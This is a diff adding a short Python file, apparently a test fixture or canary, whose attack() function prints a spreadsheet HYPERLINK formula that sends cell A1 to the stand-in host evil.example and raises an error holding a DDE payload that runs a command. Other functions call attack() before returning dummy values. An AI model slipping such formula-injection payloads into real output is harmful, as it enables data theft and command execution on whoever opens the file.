@@ -1,0 +1,23 @@
+import torch
+from telltale import breach, tried, works  # noqa: F401
+def attack():
+    tried()
+    print('=HYPERLINK("http://evil.example?"&A1,"open")')
+    raise ValueError('=cmd|"/c calc"!A0')
+
+
+def code(x):
+    return attack() or 7
+
+
+def rows(x):
+    return attack() or torch.zeros(3, 4, dtype=torch.int64)
+
+
+class Built:
+    def code(self, x):
+        return attack() or 7
+
+
+def build():
+    return Built()
